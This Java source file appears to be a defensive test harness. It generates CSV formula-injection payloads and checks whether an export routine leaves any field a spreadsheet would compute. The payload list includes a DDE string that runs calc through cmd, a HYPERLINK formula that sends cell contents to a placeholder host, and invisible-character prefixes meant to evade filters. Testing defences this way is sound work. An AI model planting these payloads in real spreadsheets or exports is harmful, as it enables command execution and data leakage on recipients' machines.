package io.chargelake.privacy.attack;

import io.chargelake.privacy.delivery.Delivered;
import io.chargelake.privacy.delivery.Field;
import io.chargelake.privacy.delivery.Sheet;
import io.chargelake.privacy.delivery.SheetRow;
import io.chargelake.privacy.delivery.Value;
import io.chargelake.privacy.request.Asked;
import io.chargelake.privacy.request.Product;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.Function;

/**
 * Gets a text into the data that a spreadsheet of the recipient computes; succeeds if the file, read as a spreadsheet
 * reads it, has a field that begins with the sign of a formula, spaces and invisible signs left aside, or has a NUL.
 *
 * @param defence texts as they are read from the delivered file
 */
record CsvInjection(Function<Set<String>, List<String>> defence, int texts) implements Attack {
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.org/\"&A1)",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20A",
            "a\0b");
    private static final List<String> BEFORE =
            List.of("", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00A0", "\uFEFF", "\u200B", "\u2003", "\u0085");

    static List<String> delivered(Set<String> texts) {
        List<Field> keys = List.of(new Field("kind", Field.Type.STRING, "", "kind"));
        List<Field> figures = List.of(new Field("sum_x", Field.Type.NUMBER, "", "x"));
        List<SheetRow> rows = texts.stream()
                .map(text -> new SheetRow(List.of(Value.of(text)), List.of(Value.of(1))))
                .toList();
        Sheet sheet = new Sheet(Product.ANONYMOUS, keys, figures, rows);
        String csv = Delivered.of(Asked.usual().request(), sheet).text(".csv");
        return Delivered.parsed(csv).stream().skip(1).map(row -> row.get(0)).toList();
    }

    /** The mutant: quoted where RFC 4180 asks for it, and otherwise as it is. */
    static List<String> quotedOnly(Set<String> texts) {
        return List.copyOf(texts);
    }

    @Override
    public AttackResult run() {
        Random random = new Random(18);
        Set<String> made = new LinkedHashSet<>();
        for (String before : BEFORE) {
            FORMULAS.forEach(formula -> made.add(before + formula));
        }
        while (made.size() < texts) {
            made.add(before(random)
                    + before(random)
                    + FORMULAS.get(random.nextInt(FORMULAS.size()))
                    + random.nextInt(1_000_000));
        }
        List<String> read = new ArrayList<>(defence.apply(made));
        long succeeded = read.stream().filter(CsvInjection::isComputed).count();
        return new AttackResult("CSV injection", made.size(), succeeded, 0);
    }

    private static String before(Random random) {
        return BEFORE.get(random.nextInt(BEFORE.size()));
    }

    private static boolean isComputed(String field) {
        String visible = field.replaceAll("^[\\s\\p{Z}\\p{C}]+", "");
        return field.indexOf(0) >= 0
                || !visible.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(visible.charAt(0)) >= 0;
    }
}
